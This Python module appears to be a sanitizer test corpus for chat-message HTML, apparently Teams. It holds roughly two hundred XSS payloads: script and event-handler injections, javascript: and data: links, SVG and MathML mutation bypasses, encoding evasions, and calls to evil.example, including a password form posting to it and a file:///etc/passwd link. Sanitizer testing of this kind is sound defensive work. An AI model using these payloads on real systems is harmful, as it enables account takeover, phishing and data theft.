"""HTML with which others have been attacked, one a line; each would set `window.__ran`, speak up, or call elsewhere.

`§` stands for what would run, `¤` for a foreign host that nothing may be asked of.
"""

from __future__ import annotations

RAN = "window.__ran=1"
HOST = "https://evil.example"

_TAGS_AND_HANDLERS = """
<script>§</script>
<SCRIPT>§</SCRIPT>
<script src=¤/x.js></script>
<script type=module>import("¤/x.js")</script>
<script >§</script >
<script/x>§</script>
<<script>script>§<</script>/script>
<scr<script>ipt>§</scr</script>ipt>
<script><!--//§//--></script>
<noscript><p title="</noscript><img src=x onerror=§>">
<img src=x onerror=§>
<img src=x onerror="§">
<img src=x onerror='§'>
<img src=x onerror=`§`>
<img src=x onerror=&#119;indow.__ran=1>
<img src=x:x onerror=§//>
<img/src=x/onerror=§>
<img	src=x	onerror=§>
<img src="x` `<script>§</script>"` `>
<IMG SRC=x OnErRoR=§>
<img src onerror=§>
<image src=x onerror=§>
<image href=x onerror=§>
<img srcset="x" onerror=§>
<img srcset="¤/a.png 1x, ¤/b.png 2x">
<img src="¤/pixel.png" loading=lazy>
<img src="//evil.example/pixel.png">
<img src=data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=>
<img lowsrc=¤/x.png dynsrc=¤/y.avi>
<img src=x style="background:url(¤/x.png)">
<img usemap=#m src=x><map name=m><area href="javascript:§" shape=default></map>
<picture><source srcset=¤/p.png><img src=x onerror=§></picture>
<body onload=§>
<body background=¤/b.png>
<html onload=§>
<frameset onload=§>
<div onclick=§ onmouseover=§ style="position:fixed;inset:0">x</div>
<p onpointerenter=§>x</p>
<p onanimationstart=§ style="animation:x 1s">x</p>
<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=§>x</p>
<p ontransitionend=§ style="transition:all 0s">x</p>
<p onfocus=§ tabindex=0 autofocus>x</p>
<input onfocus=§ autofocus>
<input type=image src=x onerror=§>
<select onfocus=§ autofocus><option>x</select>
<textarea onfocus=§ autofocus></textarea>
<textarea><img src=x onerror=§></textarea>
<button onfocus=§ autofocus>x</button>
<keygen onfocus=§ autofocus>
<details open ontoggle=§><summary>x</summary></details>
<dialog open onclose=§>x</dialog>
<div popover onbeforetoggle=§>x</div><button popovertarget=x>y</button>
<marquee onstart=§>x</marquee>
<marquee onfinish=§ loop=1>x</marquee>
<video src=x onerror=§></video>
<video poster=¤/p.png></video>
<video><source onerror=§></video>
<video autoplay onloadstart=§><source src=x></video>
<audio src=x onerror=§></audio>
<audio src=¤/a.mp3 autoplay></audio>
<object data="javascript:§"></object>
<object data=¤/x.swf></object>
<object type=text/html data="data:text/html,<script>§</script>"></object>
<embed src="javascript:§">
<embed src=¤/x.swf>
<applet code=x></applet>
<iframe src="javascript:§"></iframe>
<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>
<iframe src="data:text/html,<script>§</script>"></iframe>
<iframe src=¤/></iframe>
<iframe onload=§></iframe>
<frame src="javascript:§">
<portal src=¤/></portal>
<link rel=stylesheet href=¤/x.css>
<link rel=preload as=image href=¤/x.png>
<link rel=dns-prefetch href=¤>
<link rel=import href="data:text/html,<script>§</script>">
<meta http-equiv=refresh content="0;url=¤/">
<meta http-equiv=refresh content="0;url=javascript:§">
<meta http-equiv=Content-Security-Policy content="default-src *">
<base href=¤/>
<base href="javascript:§//">
<form action=¤/ id=f><input name=password><button>Sign in</button></form>
<form action="javascript:§"><input type=submit></form>
<button form=f formaction="javascript:§">x</button>
<isindex action="javascript:§" type=image>
<template><script>§</script></template>
<template shadowrootmode=open><img src=x onerror=§></template>
<slot onslotchange=§>x</slot>
<custom-element onclick=§>x</custom-element>
<xss id=x tabindex=1 onactivate=§></xss>
<bgsound src="javascript:§">
<layer src=¤/x.html></layer>
<comment><img src=x onerror=§></comment>
<listing>&lt;img src=x onerror=§&gt;</listing>
<plaintext><img src=x onerror=§>
<xmp><img src=x onerror=§></xmp>
"""

_LINKS = """
<a href="javascript:§">x</a>
<a href=javascript:§>x</a>
<a href="JaVaScRiPt:§">x</a>
<a href=" javascript:§">x</a>
<a href="java	script:§">x</a>
<a href="java&#9;script:§">x</a>
<a href="java&#10;script:§">x</a>
<a href="java&#13;script:§">x</a>
<a href="&#1;javascript:§">x</a>
<a href="&#14; javascript:§">x</a>
<a href="javascript&colon;§">x</a>
<a href="javascript&#58;§">x</a>
<a href="&#106;&#97;&#118;&#97;script:§">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A§">x</a>
<a href="jav&#x0A;ascript:§">x</a>
<a href="javascript://%0a§">x</a>
<a href="javascript:/*--></title></style></textarea></script><svg onload=§>">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>§</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="DATA:text/html,x">x</a>
<a href="blob:¤/x">x</a>
<a href="file:///etc/passwd">x</a>
<a href="filesystem:¤/x">x</a>
<a href="view-source:¤/">x</a>
<a href="feed:javascript:§">x</a>
<a href="hosted:abc">x</a>
<a href="kept:abc">x</a>
<a href="/api/v1/session" ping=¤/>x</a>
<a href="¤/" ping=¤/p onclick=§>x</a>
<a href="https:evil.example" target=_self>x</a>
<a xlink:href="javascript:§">x</a>
<a href='x' href='javascript:§'>x</a>
<a href="javascript:§" download>x</a>
<area href="javascript:§">
<a href=https://a.example/"onmouseover="§">x</a>
<a href="https://a.example/' onmouseover='§'">x</a>
<a title='"><img src=x onerror=§>' href="https://a.example">x</a>
"""

_FOREIGN = """
<svg onload=§>
<svg/onload=§>
<svg><script>§</script></svg>
<svg><script href="data:text/javascript,§"/></svg>
<svg><script xlink:href=¤/x.js></script></svg>
<svg><animate onbegin=§ attributeName=x dur=1s></svg>
<svg><animate attributeName=href values="javascript:§" /><a id=x><text>x</text></a></svg>
<svg><set attributeName=onmouseover to=§></svg>
<svg><a xlink:href="javascript:§"><text x=20 y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image onerror='§'/></svg>#x"/></svg>
<svg><use href=¤/x.svg#x></use></svg>
<svg><image href=¤/x.png></image></svg>
<svg><image href=x onerror=§></image></svg>
<svg><foreignObject><img src=x onerror=§></foreignObject></svg>
<svg><foreignObject><iframe src="javascript:§"></iframe></foreignObject></svg>
<svg><desc><img src=x onerror=§></desc></svg>
<svg><title><img src=x onerror=§></title></svg>
<svg><style>*{background:url(¤/s.png)}</style></svg>
<svg><style><img src=x onerror=§></style></svg>
<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>§</handler></svg>
<svg><discard onbegin=§></svg>
<svg><feImage href=¤/f.png></svg>
<svg></p><style><a id="</style><img src=1 onerror=§>">
<svg><p><style><g title="</style><img src=x onerror=§>"></style></p></svg>
<math><mtext><table><mglyph><style><img src=x onerror=§></style></mglyph></table></mtext></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=§&gt;">
<math><mtext><option><FAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=§>"></style>
<math><mi//xlink:href="data:x,<script>§</script>">x</mi></math>
<math href="javascript:§">x</math>
<math><maction actiontype=statusline#¤ xlink:href="javascript:§">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=§></annotation-xml></math>
<math><annotation-xml encoding="application/xhtml+xml"><style><img src=x onerror=§></style></annotation-xml></math>
"""

_MUTATIONS = """
<form><math><mtext></form><form><mglyph><style></math><img src onerror=§>
<noscript><style></noscript><img src=x onerror=§>
<noembed><img title="</noembed><img src=x onerror=§>"></noembed>
<noframes><img title="</noframes><img src=x onerror=§>"></noframes>
<style><img title="</style><img src=x onerror=§>"></style>
<style>@import '¤/x.css';</style>
<style>body{background:url(¤/b.png)}</style>
<title><img title="</title><img src=x onerror=§>"></title>
<!--><img src=x onerror=§>-->
<!--!><img src=x onerror=§>-->
<!-- --!><img src=x onerror=§>-->
<!--[if IE]><script>§</script><![endif]-->
<![CDATA[><img src=x onerror=§>]]>
<!DOCTYPE html [<!ENTITY x "<img src=x onerror=§>">]>&x;
<?xml version="1.0"?><img src=x onerror=§>
<?php echo 1 ?><img src=x onerror=§>
</p><img src=x onerror=§>
</div></div></li></ol></main><h1 onclick=§>Sign in again</h1>
<table><td><style><!--</style><img src=x onerror=§>--></table>
<table background=¤/t.png><tr><td background=¤/u.png>x</table>
<select><template><img src=x onerror=§></template></select>
<p title="<img src=x onerror=§>">x</p>
<p title='--><img src=x onerror=§>'>x</p>
<p id=__proto__ name=attributes>x</p>
<p id=root class=app style="display:none">x</p>
<img name=cookie id=location alt="&quot;&gt;&lt;img src=x onerror=§&gt;">
<p style="width:expression(§)">x</p>
<p style="background:url(javascript:§)">x</p>
<p style="-moz-binding:url(¤/x.xml#x)">x</p>
<p style="behavior:url(¤/x.htc)">x</p>
<p style='list-style-image:url("¤/l.png")'>x</p>
<p style="position:fixed;inset:0;z-index:99999;background:red">cover</p>
<div class="note mention" data-person="x" data-message-id="1" role=dialog>x</div>
<b><p><i onmouseover=§></b>x
%3Cimg%20src=x%20onerror=§%3E
&lt;img src=x onerror=§&gt;
&amp;lt;script&amp;gt;§&amp;lt;/script&amp;gt;
\\u003cimg src=x onerror=§\\u003e
+ADw-script+AD4-§+ADw-/script+AD4-
{{constructor.constructor('§')()}}
${§}
<img src=x onerror=\u2028§>
<a\u0000href="javascript:§">x</a>
<\u0000img src=x onerror=§>
<img src=x o\u0000nerror=§>
"""

_TEAMS_OWN = """
<at id="0" onclick=§>x</at>
<at id='"><img src=x onerror=§>'>x</at>
<emoji alt="<img src=x onerror=§>"></emoji>
<emoji alt='"><script>§</script>' title=x onload=§>x</emoji>
<customemoji id=x alt="x" source="¤/e.png" onerror=§></customemoji>
<customemoji source='/hostedContents/"onerror="§/$value'></customemoji>
<img itemtype="http://schema.skype.com/Emoji" alt="<svg onload=§>" src=¤/e.png>
<img src="¤/v1.0/chats/x/messages/1/hostedContents/a/$value" onerror=§>
<img src='/hostedContents/x" onerror="§/$value'>
<img src="/hostedContents/..%2f..%2f..%2fsession/$value">
<attachment id='"><img src=x onerror=§>'></attachment>
<attachment id="1"><script>§</script></attachment>
<codeblock class='" onload=§'><script>§</script></codeblock>
<codeblock><code><img src=x onerror=§></code></codeblock>
<blockquote itemscope itemtype="http://schema.skype.com/Reply" itemid='"><img src=x onerror=§>'>x</blockquote>
<readonly title="x" itemprop=preview><script>§</script></readonly>
<systemEventMessage onload=§/>
<URIObject type="Video" uri="javascript:§" url_thumbnail=¤/t.png></URIObject>
"""


def payloads() -> list[str]:
    """All of them, ready to be sent."""
    parts = (_TAGS_AND_HANDLERS, _LINKS, _FOREIGN, _MUTATIONS, _TEAMS_OWN)
    lines = [line for part in parts for line in part.strip("\n").split("\n")]
    return [line.replace("§", RAN).replace("¤", HOST) for line in lines]
